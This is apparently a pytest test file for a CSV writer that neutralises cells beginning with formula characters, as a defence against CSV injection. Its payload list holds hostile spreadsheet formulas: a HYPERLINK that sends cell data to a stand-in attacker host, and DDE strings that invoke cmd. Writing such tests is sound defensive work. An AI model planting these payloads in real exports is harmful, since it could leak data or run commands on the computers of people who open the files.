"""The safe CSV writer: every formula-starting cell is neutralised, per OWASP's CSV-injection guidance."""

import csv
import io

import pytest

from shared_apps.core.csv_export import SafeCsvWriter

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1, "Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def written(rows):
    handle = io.StringIO()
    SafeCsvWriter(handle).writerows(rows)
    return list(csv.reader(io.StringIO(handle.getvalue())))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_cells_are_written_as_text(payload):
    assert written([[payload, "ok", payload]]) == [["'" + payload, "ok", "'" + payload]]


def test_ordinary_cells_and_numbers_are_unchanged():
    assert written([["hello", "a=b", 42, -1, "", None]]) == [["hello", "a=b", "42", "-1", "", ""]]


def test_cells_with_separators_and_quotes_stay_one_cell():
    assert written([['=a,"b"\nc', "x"]]) == [['\'=a,"b"\nc', "x"]]
